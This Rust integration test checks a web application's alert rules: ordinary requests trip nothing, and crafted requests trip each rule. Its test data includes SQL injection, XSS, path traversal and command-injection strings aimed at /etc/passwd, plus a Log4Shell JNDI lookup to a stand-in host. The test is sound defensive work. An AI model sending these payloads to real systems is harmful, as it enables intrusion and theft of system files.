//! The shipped rules, through a real webapp: each one that it can be asked to trip is tripped, and
//! what everyday visitors send trips none.

use std::io::{self, Read as _};
use std::net::TcpStream;
use std::os::unix::fs::symlink;
use std::thread;
use std::time::Duration;

use anyhow::{Context as _, Result, bail, ensure};
use rustix::process::{Pid, Signal, kill_process};

use super::check;
use super::house::{House, free_port};
use super::scratch::Scratch;
use crate::http::{self, Address, request};
use crate::wait;

/// Longest wait for an alert; losses are told each ten seconds.
const PATIENCE: Duration = Duration::from_secs(30);

const TOKEN: &str = "a-token-for-this-check-alone";

/// What visitors send.
const EVERYDAY: [&str; 12] = [
    "/",
    "/health",
    "/csrf-token",
    "/favicon.ico",
    "/?page=2&sort=asc",
    "/?q=rock+and+roll",
    "/?q=select+a+size+from+the+list",
    "/?name=O%27Brien",
    "/?file=report..final.pdf",
    "/?id=6f9619ff-8b86-d011-b42d-00c04fc964ff",
    "/?q=caf%C3%A9%20au%20lait",
    "/?token=eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo",
];

/// A rule, and a request that has to come so often to trip it.
struct Asked {
    rule: &'static str,
    times: usize,
    method: &'static str,
    target: &'static str,
    header: (&'static str, &'static str),
}

const fn once(rule: &'static str, target: &'static str) -> Asked {
    Asked { rule, times: 1, method: "GET", target, header: ("Accept", "*/*") }
}

const ASKED: [Asked; 14] = [
    once("sql-injection", "/?q=1%27%20OR%201=1--"),
    once("xss", "/?q=<script>alert(1)</script>"),
    once("path-traversal", "/?file=..%252f..%252f..%252fetc%252fpasswd"),
    once("command-injection", "/?c=;cat%20/etc/passwd"),
    Asked { header: ("User-Agent", "${jndi:ldap://x.example/a}"), ..once("log4shell", "/") },
    Asked { header: ("User-Agent", "sqlmap/1.8"), ..once("scanner-agent", "/") },
    once("sensitive-file", "/.git/config"),
    Asked { method: "TRACE", ..once("unusual-method", "/") },
    once("odd-secret", "/?password=%27%20or%201=1--"),
    Asked { header: ("X-Forwarded-For", "203.0.113.9"), ..once("spoofed-forwarded-header", "/") },
    Asked { times: 5, method: "POST", ..once("csrf-refusals", "/") },
    Asked {
        times: 5,
        method: "POST",
        header: ("Origin", "https://elsewhere.example"),
        ..once("cors-refusals", "/")
    },
    Asked { times: 10, ..once("malformed-requests", "/?q=%zz") },
    Asked { times: 20, ..once("login-failures", "/alerts") },
];

pub(super) fn run(scratch: &Scratch) -> Result<()> {
    let token = scratch.path("token");
    std::fs::write(&token, TOKEN)?;
    let token = token.to_str().context("a path of this step is no text")?;
    let settings = [("ALERTS_TOKEN_FILE", token), ("BODY_TIMEOUT_SECONDS", "1")];
    let house = House::open_with(scratch, "rules", free_port()?, &settings)?;

    check("everyday requests trip no rule", || quiet(&house))?;
    for asked in &ASKED {
        check(asked.rule, || {
            for _ in 0..asked.times {
                let request = request(asked.method, asked.target, &[asked.header]);
                http::send(&house.webapp, &request)?;
            }
            raised(&house, asked.rule)
        })?;
    }
    check("path-scan", || {
        for number in 0..15 {
            house.get(&format!("/missing-{number}"))?;
        }
        raised(&house, "path-scan")
    })?;
    check("slow-requests", || slow(&house))?;
    check("server-error-burst", || errors(&house))?;
    check("rate-limit-storm", || {
        let mut refused = 0;
        while refused < 20 {
            refused += usize::from(house.get("/")?.status == 429);
        }
        raised(&house, "rate-limit-storm")
    })?;
    let status = house.end(Signal::INT)?;
    ensure!(status.success(), "cargo up: {status}");

    // What cannot be written is lost, and that is told where it can be.
    std::fs::remove_dir_all(scratch.path("logs"))?;
    symlink("/dev/full", scratch.directory("logs")?.join("requests.log"))?;
    // So is what there was no room for, by the next heartbeat.
    let settings = [("MAX_CONNECTIONS", "32")];
    let house = House::open_with(scratch, "full", free_port()?, &settings)?;
    crowd(&house)?;
    check("log-loss", || {
        // It waits for space as long as it can: a loss is what no longer fits.
        let lost = || {
            for _ in 0..200 {
                house.get("/health")?;
            }
            Ok(house.log("alerts.log").contains(r#""id":"log-loss""#).then_some(""))
        };
        wait::until(PATIENCE, lost)?.context("no alert")
    })?;
    check("at-capacity", || raised(&house, "at-capacity"))?;
    house.end(Signal::INT)?;
    Ok(())
}

/// Connections, twice as many as there is room for; the last one is closed at once.
fn crowd(house: &House<'_>) -> Result<()> {
    let Address::Tcp(webapp) = house.webapp else { bail!("webapp listens elsewhere") };
    let held = (0..64).map(|_| TcpStream::connect(webapp)).collect::<io::Result<Vec<_>>>()?;
    let mut last = held.last().context("no connection")?;
    last.set_read_timeout(Some(PATIENCE))?;
    let read = last.read(&mut [0]).context("the last one is not closed")?;
    ensure!(read == 0, "the last one got an answer");
    Ok(())
}

/// Everyday requests, then an attack: when its alert is there, they were all looked at before it.
fn quiet(house: &House<'_>) -> Result<String> {
    for target in EVERYDAY {
        house.get(target)?;
    }
    house.get("/?last=%3Cscript%3E")?;
    raised(house, "xss")?;
    let log = house.log("alerts.log");
    ensure!(log.lines().count() == 1, "more than the last one raised an alert:\n{log}");
    Ok(format!("{} requests", EVERYDAY.len()))
}

/// Ten requests with a valid token whose bodies never come.
fn slow(house: &House<'_>) -> Result<&'static str> {
    let answer = house.get("/csrf-token")?;
    let token = answer.body.split('"').nth(3).context("no token")?;
    let cookie = format!("csrf_token={token}");
    let headers = [("Cookie", cookie.as_str()), ("X-CSRF-Token", token), ("Content-Length", "9")];
    let request = request("POST", "/", &headers);
    thread::scope(|scope| -> Result<()> {
        let asking: Vec<_> =
            (0..10).map(|_| scope.spawn(|| http::send(&house.webapp, &request))).collect();
        for one in asking {
            let answer = one.join().ok().context("a request panicked")??;
            ensure!(answer.status == 408, "{} instead of 408", answer.status);
        }
        Ok(())
    })?;
    raised(house, "slow-requests")
}

/// Ten failures: sentinel stands still, so webapp cannot answer for it.
fn errors(house: &House<'_>) -> Result<&'static str> {
    let pid = i32::try_from(house.process("sentinel")?).ok().and_then(Pid::from_raw);
    let pid = pid.context("no process")?;
    kill_process(pid, Signal::STOP)?;
    let bearer = format!("Bearer {TOKEN}");
    let request = request("GET", "/alerts", &[("Authorization", bearer.as_str())]);
    let asked = (0..10).try_for_each(|_| {
        let status = http::send(&house.webapp, &request)?.status;
        ensure!(status == 503, "{status} instead of 503");
        Ok(())
    });
    kill_process(pid, Signal::CONT)?;
    asked?;
    raised(house, "server-error-burst")
}

fn raised(house: &House<'_>, rule: &str) -> Result<&'static str> {
    let id = format!(r#""id":"{rule}""#);
    let seen = || Ok(house.log("alerts.log").contains(&id).then_some(""));
    wait::until(PATIENCE, seen)?.context("no alert")
}
